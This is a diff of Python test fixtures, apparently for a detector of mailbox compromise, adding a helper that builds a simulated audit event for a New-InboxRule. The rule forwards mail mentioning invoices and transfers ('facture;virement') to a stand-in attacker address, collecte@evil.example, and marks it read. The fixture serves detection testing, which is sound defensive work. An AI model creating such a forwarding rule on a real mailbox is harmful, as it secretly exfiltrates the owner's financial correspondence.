@@ -44,6 +44,12 @@ def attack() -> list[dict]:
     return quiet + night
 
 
+def alarming_rule(*, at: str, ip: str, name: str = ".") -> dict:
+    """A rule that forwards everything about money outside."""
+    return event("New-InboxRule", at=at, ip=ip, ObjectId=f"{OWNER}\\{name}", Parameters=parameters(
+        Name=name, SubjectOrBodyContainsWords="facture;virement", ForwardTo="collecte@evil.example", MarkAsRead="True"))
+
+
 def portal_csv(events, *, encoding="utf-8-sig", delimiter=",", preamble="") -> bytes:
     text = io.StringIO()
     writer = csv.writer(text, delimiter=delimiter)
